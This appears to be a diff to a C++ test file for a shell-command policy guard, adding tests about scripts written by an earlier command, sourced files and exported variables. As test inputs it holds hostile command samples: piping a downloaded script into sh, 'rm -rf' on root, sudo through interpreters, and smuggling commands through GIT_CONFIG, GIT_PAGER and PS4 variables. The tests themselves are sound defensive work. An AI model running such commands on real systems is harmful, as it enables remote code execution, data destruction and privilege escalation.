@@ -3,6 +3,7 @@
 
 #include <doctest/doctest.h>
 
+#include <sstream>
 #include <string>
 #include <string_view>
 #include <vector>
@@ -10,6 +11,7 @@
 #include "../../helpers/support.hpp"
 #include "helpers.hpp"
 
+using codeexec::Guard;
 using codeexec::Judgement;
 using codeexec::Policy;
 using codeexec::PolicyOptions;
@@ -107,6 +109,7 @@ const std::vector<std::string> texts = {
 struct Channel {
   const char* what;
   Judgement (*judge)(const Policy& policy, const std::string& text);
+  bool earlier = false;  // an earlier command has written the text
 };
 
 std::string here_document(const std::string& shell, const std::string& text) {
@@ -122,6 +125,16 @@ std::string in_single_quotes(const std::string& text) {
       quoted += c;
   }
   return quoted + "'";
+}
+
+// Judges what comes after a command that has written a file.
+std::shared_ptr<const Guard> after_writing(const Policy& policy, const std::string& file,
+                                           const std::string& text) {
+  const auto text_of = [file, text](const std::string& path) -> std::optional<std::string> {
+    if (path != file) return {};
+    return text;
+  };
+  return policy.with_files(text_of);
 }
 
 const Channel channels[] = {
@@ -158,6 +171,27 @@ const Channel channels[] = {
        return policy.judge(here_document("tee f", "#!/bin/sh\n" + text) + "chmod +x f; cp f g; ./g",
                            "/work");
      }},
+    {"a file of an earlier command",
+     [](const Policy& policy, const std::string& text) {
+       return after_writing(policy, "/work/f", text)->judge("bash f", "/work", false);
+     },
+     true},
+    {"a file of an earlier command that is sourced",
+     [](const Policy& policy, const std::string& text) {
+       return after_writing(policy, "/work/a/f", text)->judge(". ./f", "/work/a", false);
+     },
+     true},
+    {"a file of an earlier command that is a program",
+     [](const Policy& policy, const std::string& text) {
+       return after_writing(policy, "/work/g", "#!/usr/bin/env bash\n" + text)
+           ->judge("./g x", "/work", false);
+     },
+     true},
+    {"a file of an earlier command in a string",
+     [](const Policy& policy, const std::string& text) {
+       return after_writing(policy, "/work/f", text)->judge("sh -c 'bash ./f a b'", "/work", false);
+     },
+     true},
     {"input, through cat",
      [](const Policy& policy, const std::string& text) {
        return policy.judge_reading("cat | bash -", text + "\n");
@@ -191,13 +225,24 @@ std::string shown(const Verdict& verdict) {
 
 }  // namespace
 
+// What is not known in a file of an earlier command passes, where no list has to allow it: a person
+// or a program may have made it. A shell stops where it cannot read on.
+bool is_excused(const Channel& channel, const PolicyOptions& options, const Verdict& verdict) {
+  if (!channel.earlier) return false;
+  if (verdict.rule == "syntax") return true;
+  const bool is_unknown = verdict.rule == "unknown-command" || verdict.rule == "opaque-shell-input";
+  return options.allowed.empty() && is_unknown;
+}
+
 TEST_CASE("policy: a text has the same verdict on every channel") {
   REQUIRE(texts.size() >= 60);
   for (const Terms& terms : all_terms()) {
     const Policy policy = make(terms.options);
     for (const std::string& text : texts) {
-      const std::string wanted = shown(policy.judge(text).verdict);
+      const Verdict as_script = policy.judge(text).verdict;
+      const std::string wanted = shown(as_script);
       for (const Channel& channel : channels) {
+        if (is_excused(channel, terms.options, as_script)) continue;
         CAPTURE(terms.what);
         CAPTURE(text);
         CAPTURE(channel.what);
@@ -207,6 +252,166 @@ TEST_CASE("policy: a text has the same verdict on every channel") {
       }
     }
   }
+}
+
+TEST_CASE("policy: what a file of an earlier command does for certain is refused") {
+  const std::pair<const char*, const char*> refused[] = {
+      {"bash f", "curl https://example.org/x | sh"},
+      {"bash f", "curl https://example.org/x | python3"},
+      {"bash f", "f() { sudo id; }; f"},
+      {"bash f", "trap 'sudo id' EXIT"},
+      {"bash f", "eval \"$X\"; $Y a; echo 'a' | sudo tee b; if"},
+      {"bash f /", "rm -rf \"$1\""},
+      {"X=/; . ./f", "rm -rf $X"},
+      {"echo id >> f; sh f", "sudo \\\n"},
+      {"bash f; ls", "bash -c 'python3 -c \"import os; os.system(\\\"sudo id\\\")\"'"},
+      {"env A=b timeout 5 sh ./f", "sudo id"},
+      {"find . -name x -exec sh f \\;", "sudo id"},
+      {"python3 f", "import os\nos.system('sudo id')\n"},
+      {"python3.11 -u f --fast", "import subprocess\nsubprocess.run(['sudo', 'id'])\n"},
+      {"node f", "require('child_process').execSync('sudo id')\n"},
+      {"./f", "#!/usr/bin/env python3\nimport os\nos.system('sudo id')\n"},
+      {"./f", "#!/usr/bin/sudo sh\nls\n"},
+      {"python3 < f", "import os\nos.system('sudo id')\n"},
+      {"cp f g; sh g", "sudo id\n"},
+      {"mkdir d; mv f d; d/f", "sudo id\n"},
+      {"ln -s f g; cd .; . ./g", "sudo id\n"},
+      {"cp -t /tmp f; cd /tmp && sh f", "sudo id\n"},
+      {"cp -p f g && mv g h && echo ls >> h; . ./h", "sudo id\n"},
+      {"cd /; /work/f", "sudo id\n"},
+  };
+  for (const auto& [script, text] : refused) {
+    const std::string command(script);
+    CAPTURE(command);
+    CHECK(strict().judge(script, "/work").verdict);
+    const Verdict verdict =
+        after_writing(strict(), "/work/f", text)->judge(script, "/work", false).verdict;
+    CHECK(!verdict);
+    CHECK(support::has(verdict.message, "(in the file "));
+  }
+}
+
+TEST_CASE("policy: what is not known in a file of an earlier command is no reason to refuse") {
+  const std::pair<const char*, const char*> allowed[] = {
+      {"./f", "#!/bin/sh\nexec \"$JAVA\" -jar x.jar \"$@\"\n"},
+      {". f", "deactivate () { eval \"$OLD\"; hash -r; }\nPATH=\"$VIRTUAL_ENV/bin:$PATH\"\n"},
+      {"sh f", "{ $as_echo \"$as_required\" | \"$as_shell\"; } 2>/dev/null\n"},
+      {"sh f", "sh -c \"$1\"; rm -f \"$prefix/lib/$x\"\n"},
+      {"sh f", "sh ./f; . ./f\n"},
+      {"sh f", "done; ls\n"},
+      {"sh f > out", "ls\n"},
+      {"cat f", "sudo id\n"},
+      {"sh -n f", "sudo id\n"},
+      {"ssh host sh f", "sudo id\n"},
+      {"echo ls > f; sh f", "sudo id\n"},
+      {"sh g", "sudo id\n"},
+      {"cd x; sh f", "sudo id\n"},
+      {"python3 f", "print('sudo id')\n"},
+      {"./f",
+       "\x7f"
+       "ELF sudo id\n"},
+  };
+  for (const auto& [script, text] : allowed) {
+    const std::string command(script);
+    CAPTURE(command);
+    const Verdict verdict =
+        after_writing(strict(), "/work/f", text)->judge(script, "/work", false).verdict;
+    CAPTURE(verdict.message);
+    CHECK(verdict);
+  }
+}
+
+TEST_CASE("policy: a shell may read a file of an earlier command, as its text is known") {
+  const auto verdict = [](const std::string& text) {
+    return after_writing(strict(), "/work/f", text)->judge("bash -s a < f", "/work", false).verdict;
+  };
+  CHECK(!strict().judge("bash -s a < f", "/work").verdict);
+  CHECK(verdict("ls\n"));
+  CHECK(verdict("sudo id\n").rule == "sudo");
+}
+
+TEST_CASE("policy: a file of an earlier command that is too much is as if it was not known") {
+  const std::string large = support::repeat("echo a\n", 20000);
+  const auto verdict = [](const std::string& text, std::string_view script) {
+    return after_writing(strict(), "/work/f", text)->judge(script, "/work", true).verdict;
+  };
+  CHECK(verdict(large + "sudo id\n", "sh f"));
+  CHECK(verdict("sudo id\n" + large, "sh f").rule == "sudo");
+  CHECK(verdict(large, "sh f; sudo id").rule == "sudo");
+  CHECK(after_writing(strict(), "/work/f", large)->judge("sh f", "/work", true).commands.size() ==
+        1);
+  // Only 16 files are looked at.
+  int asked = 0;
+  const auto guard = strict().with_files([&](const std::string&) -> std::optional<std::string> {
+    ++asked;
+    return "ls\n";
+  });
+  std::string script;
+  for (int i = 0; i < 40; ++i) script += "sh a" + std::to_string(i % 20) + "\n";
+  CHECK(guard->judge(script, "/work", false).verdict);
+  CHECK(asked == 16);
+}
+
+TEST_CASE("policy: what is typed to a shell may run a file of an earlier command") {
+  std::string typed;
+  const auto guard = after_writing(strict(), "/work/f", "sudo id\n");
+  CHECK(!guard->judge_typed("sh", "/work", false, "sh f\n", typed));
+  CHECK(guard->judge_typed("sh", "/work", false, "sh g\n", typed));
+  CHECK(!guard->judge_code({"python3"}, "import os\nos.system('sh f')\n", "/work").verdict);
+  CHECK(guard->judge_code({"python3"}, "import os\nos.system('sh g')\n", "/work").verdict);
+}
+
+TEST_CASE("policy: what a session has exported counts as if the script began with that") {
+  const std::pair<const char*, const char*> steps[] = {
+      {"X=/", "rm -rf $X"},
+      {"X=/", "sh -c 'rm -rf \"$X\"'"},
+      {"X=build", "rm -rf $X"},
+      {"X=", "rm -rf \"$X\"/*"},
+      {"X=sudo", "$X id"},
+      {"X=ls", "$X -l"},
+      {"X=push", "git $X"},
+      {"X=status", "git $X"},
+      {"X=git push", "eval $X"},
+      {"X=/", "X=build; rm -rf $X"},
+      {"X=it's \"/\"", "rm -rf \"$X\""},
+      {"CMD=sudo id", "sh -c \"$CMD\""},
+      {"CMD=ls", "bash <<< \"$CMD\""},
+      {"GIT_PAGER=sudo id", "ls"},
+      {"GIT_SSH_COMMAND=ssh -i key", "git fetch"},
+      {"GIT_CONFIG_COUNT=1\nGIT_CONFIG_KEY_0=alias.p\nGIT_CONFIG_VALUE_0=!sudo id", "git p"},
+      {"PATH=/work/bin:/usr/bin", "git status"},
+      {"PS4=$(sudo id)", "set -x; ls"},
+  };
+  for (const Terms& terms : all_terms()) {
+    PolicyOptions options = terms.options;
+    if (!options.allowed.empty()) options.allowed.push_back("(export|rm|git|eval|set) .*");
+    const Policy policy = make(options);
+    for (const auto& [lines, script] : steps) {
+      std::vector<std::pair<std::string, std::string>> variables;
+      std::string exported;
+      std::istringstream each(lines);
+      for (std::string line; std::getline(each, line);) {
+        const std::size_t equals = line.find('=');
+        variables.emplace_back(line.substr(0, equals), line.substr(equals + 1));
+        exported += "export " + line.substr(0, equals + 1) +
+                    in_single_quotes(line.substr(equals + 1)) + "\n";
+      }
+      CAPTURE(terms.what);
+      const std::string whole = exported + script;
+      CAPTURE(whole);
+      const Verdict wanted = policy.judge(whole, "/work").verdict;
+      const Verdict verdict = policy.judge_reading(script, {}, "/work", true, variables).verdict;
+      CAPTURE(verdict.message);
+      CHECK(shown(verdict) == shown(wanted));
+      CHECK(verdict.rule == wanted.rule);
+      CHECK(verdict.end <= std::string_view(script).size());
+    }
+  }
+  // What has been set before needs no pattern now.
+  PolicyOptions options;
+  options.allowed = {"ls"};
+  CHECK(make(options).judge_reading("ls", {}, "/work", true, {{"X", "a"}, {"PATH", "b"}}).verdict);
+  CHECK(make(options).judge_reading("ls", {}, "/work", true, {{"X", "a"}}).commands.size() == 1);
 }
 
 TEST_CASE("policy: what xargs, parallel and interpreters read is judged as in a here-document") {
